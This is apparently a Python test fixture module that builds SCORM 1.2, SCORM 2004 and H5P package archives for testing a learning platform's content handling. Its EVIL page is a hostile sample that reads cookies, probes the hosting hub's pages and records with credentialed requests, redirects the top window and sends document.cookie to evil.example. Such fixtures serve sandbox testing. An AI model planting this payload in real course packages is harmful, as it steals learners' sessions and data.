"""Packages written by us: small ones that do what a real one does, and ones that try what they may not."""

import io
import json
import zipfile
from pathlib import Path

MANIFEST_12 = """<?xml version="1.0"?>
<manifest identifier="seed-12" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
<metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
<organizations default="o"><organization identifier="o"><title>Seeds in SCORM 1.2</title>
<item identifier="i1" identifierref="r1"><title>The notebook</title><adlcp:masteryscore>60</adlcp:masteryscore></item>
</organization></organizations>
<resources><resource identifier="r1" type="webcontent" adlcp:scormtype="sco" href="index.html"><file href="index.html"/></resource></resources>
</manifest>"""
MANIFEST_2004 = """<?xml version="1.0"?>
<manifest identifier="seed-2004" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3"
 xmlns:imsss="http://www.imsglobal.org/xsd/imsss">
<metadata><schema>ADL SCORM</schema><schemaversion>2004 4th Edition</schemaversion></metadata>
<organizations default="o"><organization identifier="o"><title>Seeds in SCORM 2004</title>
<item identifier="c"><title>First chapter</title>
<item identifier="i1" identifierref="r1" parameters="?page=1"><title>The notebook</title></item></item>
<imsss:sequencing/></organization></organizations>
<resources><resource identifier="r1" type="webcontent" adlcp:scormType="sco" href="index.html"/></resources>
</manifest>"""
PAGE_12 = """<!doctype html><meta charset="utf-8"><title>Seeds</title><p id="where"></p><button id="halt">Stop half-way</button><button id="end">Finish</button>
<script>
var w = window; while (!w.API && w.parent !== w) w = w.parent; var api = w.API;
api.LMSInitialize(""); document.getElementById("where").textContent = "at: " + api.LMSGetValue("cmi.core.lesson_location");
document.getElementById("halt").onclick = function () { api.LMSSetValue("cmi.core.lesson_location", "page 2");
 api.LMSSetValue("cmi.core.lesson_status", "incomplete"); api.LMSSetValue("cmi.core.exit", "suspend"); api.LMSCommit(""); this.textContent = "kept" };
document.getElementById("end").onclick = function () { api.LMSSetValue("cmi.core.score.raw", "80"); api.LMSSetValue("cmi.core.lesson_status", "completed");
 api.LMSFinish(""); this.textContent = "finished" };
</script>"""
PAGE_2004 = """<!doctype html><meta charset="utf-8"><title>Seeds</title><button id="end">Finish</button>
<script>
var w = window; while (!w.API_1484_11 && w.parent !== w) w = w.parent; var api = w.API_1484_11;
api.Initialize("");
document.getElementById("end").onclick = function () { api.SetValue("cmi.score.scaled", "0.9"); api.SetValue("cmi.success_status", "passed");
 api.SetValue("cmi.completion_status", "completed"); api.Terminate(""); this.textContent = "finished" };
</script>"""
EVIL = """<!doctype html><meta charset="utf-8"><title>Evil</title><p id="found">trying</p>
<script>
var found = [];
function tried(name, work) { try { var got = work(); if (got) found.push(name + ": " + got) } catch (e) {} }
tried("cookie", function () { return document.cookie });
tried("cookie of the hub", function () { return parent.parent.document.cookie || "empty" });
tried("page of the hub", function () { return parent.parent.document.body.innerHTML.slice(0, 9) });
tried("go elsewhere", function () { top.location = "https://evil.example/"; return "" });
var left = 3;
function end() { left -= 1; if (!left) document.getElementById("found").textContent = "found: " + found.join(", ") }
function load(name, address, options) { fetch(address, options).then(function (r) { found.push(name + ": " + r.status) }).catch(function () {}).then(end) }
load("hub", HUB + "/en/account/", { credentials: "include" });
load("records", HUB + "/xapi/statements", { credentials: "include" });
load("elsewhere", "https://evil.example/?" + document.cookie, { mode: "no-cors" });
</script>"""


def zipped(contents: dict[str, str | bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in contents.items():
            archive.writestr(path, content)
    return stream.getvalue()


def scorm12(page: str = PAGE_12, manifest: str = MANIFEST_12) -> bytes:
    return zipped({"imsmanifest.xml": manifest, "index.html": page, "film.mp4": bytes(range(256)) * 8})


def scorm2004() -> bytes:
    return zipped({"imsmanifest.xml": MANIFEST_2004, "index.html": PAGE_2004})


def h5p(**changed: object) -> bytes:
    head = {
        "title": "Seeds", "language": "en", "mainLibrary": "H5P.Seeds", "license": "U", "authors": [{"name": "Mutoni"}],
        "preloadedDependencies": [{"machineName": "H5P.Seeds", "majorVersion": 1, "minorVersion": 0}],
    } | changed  # fmt: skip
    library = {"machineName": "H5P.Seeds", "majorVersion": 1, "minorVersion": 0, "preloadedDependencies": []}
    return zipped(
        {
            "h5p.json": json.dumps(head),
            "content/content.json": "{}",
            "H5P.Seeds-1.0/library.json": json.dumps(library),
        }
    )


def written(folder: Path, content: bytes, name: str = "package.zip") -> Path:
    path = folder / name
    path.write_bytes(content)
    return path
